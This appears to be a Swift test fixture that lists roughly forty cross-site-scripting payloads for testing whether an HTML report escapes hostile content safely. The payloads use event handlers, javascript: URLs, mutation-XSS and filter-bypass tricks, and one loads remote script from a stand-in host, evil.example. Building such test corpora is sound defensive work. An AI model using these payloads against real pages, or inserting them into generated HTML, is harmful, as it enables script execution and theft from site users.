/// Hostile page content for the HTML report: each payload tries to run script that changes
/// `document.title` to `PWNED` or sets a `data-xss` marker on the root element.
///
/// The words `PWNED` and `xss-ran` are built by concatenation inside the script, so that they
/// appear in the page only if a payload actually ran; the escaped payload text never holds them.
enum HTMLInjectionCorpus {
    /// The script every payload tries to run.
    static let script = "document.title='PW'+'NED';document.documentElement.setAttribute('data-xss','xss-'+'ran')"

    /// The payloads, one per trick.
    static let payloads: [String] = [
        "<script>\(script)</script>",
        "<img src=x onerror=\"\(script)\">",
        "<a href=\"javascript:\(script)\">click me</a>",
        "</style><script>\(script)</script>",
        "</title><script>\(script)</script>",
        "</textarea><script>\(script)</script>",
        "\"><script>\(script)</script>",
        "'><img src=x onerror=\(script)>",
        "\" autofocus onfocus=\"\(script)\" x=\"",
        "' autofocus onfocus='\(script)' x='",
        "\"onmouseover=\(script)//",
        "<svg onload=\"\(script)\"></svg>",
        "<svg><script>\(script)</script></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=\"\(script)\">",
        "<math><mi><xmp></mi><img src=x onerror=\"\(script)\"></xmp></math>",
        "<iframe srcdoc=\"&lt;script&gt;parent.\(script)&lt;/script&gt;\"></iframe>",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:\(script)\">",
        "<div style=\"background:url(javascript:\(script));width:expression(\(script))\">css</div>",
        "<style>@import url(x.css); body{background:url(\"x.png\")}</style>",
        "<details open ontoggle=\"\(script)\">",
        "<body onload=\"\(script)\">",
        "<input autofocus onfocus=\"\(script)\">",
        "<object data=\"javascript:\(script)\"></object><embed src=\"javascript:\(script)\">",
        "<base href=\"javascript:/\"><a href=\"/\">relative</a>",
        "<form action=\"javascript:\(script)\"><button>go</button></form>",
        "<noscript><p title=\"</noscript><img src=x onerror=\(script)>\">",
        "<!--<img src=x onerror=\"\(script)\">-->",
        "--><script>\(script)</script><!--",
        "<![CDATA[<script>\(script)</script>]]>",
        "<scr<script>ipt>\(script)</scr</script>ipt>",
        "&lt;script&gt;\(script)&lt;/script&gt;",
        "<plaintext>",
        "<template><script>\(script)</script></template>",
        "<video><source onerror=\"\(script)\"></video>",
        "<marquee onstart=\"\(script)\">",
        "\u{0}<script>\(script)</script>",
        "\u{202E}<script>\(script)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<ScRiPt>\(script)</sCrIpT>",
        "<link rel=stylesheet href=\"data:text/css,body{display:none}\">",
    ]
}
